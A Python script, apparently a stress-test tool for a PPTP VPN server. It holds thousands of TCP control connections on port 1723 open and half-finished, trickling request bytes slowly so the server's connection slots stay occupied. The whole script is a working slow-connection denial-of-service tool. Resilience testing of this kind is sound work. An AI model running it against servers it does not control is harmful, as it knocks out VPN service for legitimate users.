#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""
Open control connections that never complete, and keep them: every second one is
silent, the others send a Start-Control-Connection-Request at one byte per second.
Reopen those that the server closes, RATE per second at most: this is neither a SYN
flood nor meant to saturate the CPU.

usage: flood.py SERVER COUNT RATE FIRST-ADDRESS ADDRESSES

The connections use ADDRESSES local addresses in turn, starting with FIRST-ADDRESS.
Prints "up" once COUNT were opened. Runs until killed.
"""
import ipaddress
import resource
import select
import socket
import sys
import time

from peer import sccrq

server, count, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
first, addresses = ipaddress.ip_address(sys.argv[4]), int(sys.argv[5])

resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
poll = select.epoll()
open_now = {}  # descriptor: [socket, bytes sent]
opened = 0


def connect():
    global opened
    tcp = socket.socket()
    tcp.setblocking(False)
    tcp.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    tcp.bind((str(first + opened % addresses), 0))
    tcp.connect_ex((server, 1723))
    poll.register(tcp.fileno(), select.EPOLLRDHUP)
    open_now[tcp.fileno()] = [tcp, 0]
    opened += 1


def closed(wait):
    for fd, _ in poll.poll(wait):
        poll.unregister(fd)
        open_now.pop(fd)[0].close()


def drip():
    """Send the next byte of every second connection; never the last one."""
    for number, entry in enumerate(list(open_now.values())):
        if number % 2 and entry[1] < 155:
            try:
                entry[1] += entry[0].send(sccrq()[entry[1]:entry[1] + 1])
            except OSError:
                pass  # not connected yet, or closed


tick = time.monotonic()
due = 0.0  # connections that may be opened now
while True:
    closed(0.05)
    now = time.monotonic()
    due = min(due + (now - tick) * rate, rate)
    if int(now) > int(tick):
        drip()
        print(len(open_now), "open", opened, "opened", flush=True)
    tick = now
    while due >= 1 and len(open_now) < count:
        connect()
        due -= 1
        if opened == count:
            print("up", flush=True)
